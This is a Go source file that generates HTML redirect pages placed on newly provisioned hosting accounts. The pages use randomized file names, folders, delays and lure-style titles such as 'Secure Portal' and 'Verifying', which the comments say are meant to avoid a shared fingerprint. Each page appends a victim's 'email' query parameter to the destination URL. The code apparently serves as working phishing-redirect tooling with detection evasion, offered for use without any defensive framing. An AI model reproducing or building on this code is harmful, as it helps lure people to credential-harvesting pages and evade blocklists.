// Package redirect generates the self-contained redirect pages written
// into freshly provisioned hosting accounts.
package redirect

import (
	"fmt"
	"math/rand"
	"strings"
)

const (
	fileNameLength = 8
	fileExtension  = ".html"

	minDelayMs = 800
	maxDelayMs = 2600
)

const nameAlphabet = "abcdefghijklmnopqrstuvwxyz0123456789"

// Page titles are picked at random to keep the generated documents from
// sharing a single fingerprint.
var titles = []string{
	"Document Viewer",
	"Secure Portal",
	"File Preview",
	"Loading Document",
	"One Moment",
	"Please Wait",
	"Verifying",
	"Redirecting",
}

// Folder returns a random 3-digit numeral string (100-999). Collisions
// across slots are possible and not deduplicated.
func Folder(r *rand.Rand) string {
	return fmt.Sprintf("%d", 100+r.Intn(900))
}

// FileName returns a random lowercase-alphanumeric file name with the
// page extension.
func FileName(r *rand.Rand) string {
	var b strings.Builder
	for i := 0; i < fileNameLength; i++ {
		b.WriteByte(nameAlphabet[r.Intn(len(nameAlphabet))])
	}
	return b.String() + fileExtension
}

// Page templates. TemplateDefault waits a random delay before
// navigating; TemplateInstant navigates as soon as the script runs.
const (
	TemplateDefault = "default"
	TemplateInstant = "instant"
)

// Page renders one redirect document for the given target URL. The page
// reads the email query parameter if present and appends it to the
// target by plain string concatenation, then navigates. The template
// name selects the variant; unknown names fall back to the default.
//
// The concatenation has no separator and no query-merge; downstream
// consumers rely on that exact shape, so it stays as-is.
func Page(targetURL, template string, r *rand.Rand) string {
	title := titles[r.Intn(len(titles))]
	delay := minDelayMs + r.Intn(maxDelayMs-minDelayMs)
	if template == TemplateInstant {
		delay = 0
	}

	return fmt.Sprintf(`<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>%s</title>
</head>
<body>
<script>
(function() {
  var target = "%s";
  setTimeout(function() {
    var params = new URLSearchParams(window.location.search);
    var email = params.get("email");
    if (email) {
      target = target + email;
    }
    window.location.replace(target);
  }, %d);
})();
</script>
</body>
</html>
`, htmlEscape(title), jsEscape(targetURL), delay)
}

// jsEscape makes a string safe to embed inside a double-quoted JS
// string literal. The redirect target comes from our own users, but an
// unescaped quote or backslash would still break the page.
func jsEscape(s string) string {
	var b strings.Builder
	for _, c := range s {
		switch c {
		case '\\':
			b.WriteString(`\\`)
		case '"':
			b.WriteString(`\"`)
		case '\n':
			b.WriteString(`\n`)
		case '\r':
			b.WriteString(`\r`)
		case '<':
			// Prevents "</script>" breaking out of the block.
			b.WriteString(`\x3c`)
		default:
			b.WriteRune(c)
		}
	}
	return b.String()
}

func htmlEscape(s string) string {
	s = strings.ReplaceAll(s, "&", "&amp;")
	s = strings.ReplaceAll(s, "<", "&lt;")
	s = strings.ReplaceAll(s, ">", "&gt;")
	return s
}
